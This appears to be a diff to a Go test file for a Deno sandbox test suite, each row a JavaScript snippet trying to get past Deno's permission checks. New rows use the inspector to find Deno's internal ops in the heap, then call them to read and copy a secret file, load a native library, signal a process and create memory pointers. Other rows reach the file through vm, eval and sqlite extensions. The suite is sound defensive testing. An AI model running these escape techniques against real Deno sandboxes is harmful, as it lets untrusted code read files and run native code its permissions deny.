@@ -165,17 +165,30 @@ func TestNodePrograms(t *testing.T) {
 	})
 }
 
+// internals finds the object that holds Deno's operations (its interface to
+// Rust, below every check in JavaScript) by asking the inspector for all objects.
+const internals = `import inspector from "node:inspector/promises"; const s = new inspector.Session(); s.connect();
+const object = (await s.post("Runtime.evaluate", { expression: "Object.prototype" })).result.objectId;
+const all = (await s.post("Runtime.queryObjects", { prototypeObjectId: object })).objects.objectId;
+globalThis.keep = (o) => globalThis.ops = o;
+await s.post("Runtime.callFunctionOn", { objectId: all, functionDeclaration: "function () { for (const o of this) { try { if (typeof o.op_fs_copy_file_sync === 'function') keep(o); } catch {} } }" });
+const reach = async (name, ...args) => { try { return name.startsWith("op_") ? await ops[name](...args) : (ops ? name : ""); } catch (e) { return e.message; } };
+`
+
 func TestNodeOthers(t *testing.T) {
 	try(t, []attack{
 		{name: "inspector.open", code: `import inspector from "node:inspector"; inspector.open(0, "127.0.0.1"); console.log("listens", inspector.url());`, evidence: says("listens ws:")},
 		{name: "inspector.Session", code: `import inspector from "node:inspector"; const s = new inspector.Session(); s.connect();
 s.post("Runtime.evaluate", { expression: "Deno.readTextFileSync('%DIR%/secret.txt')" }, (e, r) => console.log(e, r));`},
-		{name: "inspector.Session that finds Deno's internals in the heap", code: `import inspector from "node:inspector"; const s = new inspector.Session(); s.connect();
-const post = (m, p) => { let r; s.post(m, p, (e, v) => { r = v ?? e; }); return r; };
-const object = post("Runtime.evaluate", { expression: "Object.prototype" }).result.objectId;
-const all = post("Runtime.queryObjects", { prototypeObjectId: object }).objects.objectId;
-const found = post("Runtime.callFunctionOn", { objectId: all, returnByValue: true, functionDeclaration: "function () { for (const o of this) { try { if (typeof o.op_fs_read_file_text_sync === 'function') return o.op_fs_read_file_text_sync('%DIR%/secret.txt'); if (typeof o.op_read_file_sync === 'function') return o.op_read_file_sync('%DIR%/secret.txt'); } catch (e) { return String(e); } } return 'nothing in ' + this.length; }" });
-console.log(JSON.stringify(found));`},
+		{name: "inspector.Session that finds Deno's internals in the heap", code: internals + `console.log(await reach("Deno's own operations are mine"));`, evidence: says("are mine")},
+		{name: "Deno's internals, with the inspector granted, read a file", grants: []string{"--allow-sys"},
+			code: internals + `console.log(await reach("op_node_open_sync", "%DIR%/secret.txt", 0, 0)); console.log(await reach("op_fs_copy_file_sync", "%DIR%/secret.txt", "%DIR%/copy"));`},
+		{name: "Deno's internals, with the inspector granted, load a library", grants: []string{"--allow-sys"},
+			code: internals + `console.log(await reach("op_napi_open", "%DIR%/evil.node", globalThis, Buffer, (e) => e, (e) => e, (e) => e));`, prepare: addon, evidence: says("file too short")},
+		{name: "Deno's internals, with the inspector granted, signal a process", grants: []string{"--allow-sys"},
+			code: internals + `console.log(await reach("op_node_process_kill", %VICTIM%, 15));`, evidence: settle},
+		{name: "Deno's internals, with the inspector granted, read memory", grants: []string{"--allow-sys"},
+			code: internals + `console.log("pointer", await reach("op_ffi_ptr_create", 4096n));`, evidence: says("pointer [Object: null prototype] {}")},
 		{name: "SIGUSR1 to itself starts no inspector", code: `process.kill(process.pid, "SIGUSR1"); await new Promise((r) => setTimeout(r, 100)); console.log("alive"); process.debugPort = 1; process._debugProcess?.(%VICTIM%);`,
 			evidence: settle, ends: crash, noControl: "Deno has no inspector that a signal starts; the row shows that none comes with a new version"},
 		{name: "vm in a new context", code: `import vm from "node:vm"; console.log(vm.runInNewContext("this.constructor.constructor('return Deno')().readTextFileSync('%DIR%/secret.txt')"));`},
@@ -192,15 +205,14 @@ console.log(eval("Deno.readTextFileSync('%DIR%/secret.txt')"));`},
 			noControl: "Deno itself allows no attached database"},
 		{name: "sqlite VACUUM INTO", code: `import { DatabaseSync } from "node:sqlite"; new DatabaseSync(":memory:").exec("create table t (x); vacuum into '%DIR%/new.db'");`,
 			noControl: "Deno itself allows no attached database, and this needs one"},
-		{name: "sqlite loadExtension", code: `import { DatabaseSync } from "node:sqlite"; const db = new DatabaseSync(":memory:", { allowExtension: true }); db.loadExtension("%DIR%/evil.node");`, prepare: addon, evidence: says("outside/evil.node: file too short")},
-		{name: "sqlite by a file: URL", code: `import { DatabaseSync } from "node:sqlite"; new DatabaseSync(new URL("file://%DIR%/new.db")).exec("create table t (x)");`},
+		{name: "sqlite loadExtension", code: `import { DatabaseSync } from "node:sqlite"; const db = new DatabaseSync(":memory:", { allowExtension: true }); db.loadExtension("%DIR%/evil.node");`, prepare: addon, evidence: says("shared object file")},
 		{name: "sqlite backup", code: `import { DatabaseSync, backup } from "node:sqlite"; const db = new DatabaseSync(":memory:"); db.exec("create table t (x)"); await backup(db, "%DIR%/new.db");`},
 		{name: "sqlite temporary directory", code: `import fs from "node:fs"; import { DatabaseSync } from "node:sqlite"; const db = new DatabaseSync(":memory:"); db.exec("pragma temp_store_directory='%DIR%'; pragma temp_store=1; create temp table t (x); insert into t values (randomblob(10000000))"); console.log(fs.readdirSync("%DIR%"));`,
 			noControl: "the file has no name while it is there"},
 		{name: "wasi with a preopened directory", code: `import { WASI } from "node:wasi"; new WASI({ version: "preview1", preopens: { "/": "%DIR%" }, args: [], env: {} }); console.log("opened");`, evidence: says("opened\n")},
 		{name: "v8.writeHeapSnapshot", code: `import v8 from "node:v8"; console.log(v8.writeHeapSnapshot("%DIR%/heap"));`},
 		{name: "v8.setFlagsFromString for a file of V8's", code: `import v8 from "node:v8"; v8.setFlagsFromString("--logfile=%DIR%/v8.log"); v8.setFlagsFromString("--log-all"); v8.setFlagsFromString("--redirect-code-traces-to=%DIR%/trace"); v8.setFlagsFromString("--trace-turbo-path=%DIR%"); v8.setFlagsFromString("--trace-turbo"); let f = (x) => x + 1; for (let i = 0; i < 1e6; i++) f(i);`,
-			noControl: "Deno's node:v8 does not pass flags on; the row shows that none comes with a new version"},
+			noControl: "Deno passes only a few harmless flags on to V8; the row shows that none that names a file comes with a new version"},
 		{name: "v8.startupSnapshot and coverage", code: `import v8 from "node:v8"; v8.takeCoverage?.(); v8.setHeapSnapshotNearHeapLimit?.(1); v8.startupSnapshot?.setDeserializeMainFunction?.(() => {}); process.env.NODE_V8_COVERAGE = "%DIR%";`,
 			noControl: "Deno does not implement it; the row shows that it does not come with a new version"},
 		{name: "trace_events", code: `import t from "node:trace_events"; t.createTracing?.({ categories: ["node", "v8"] }).enable();`,
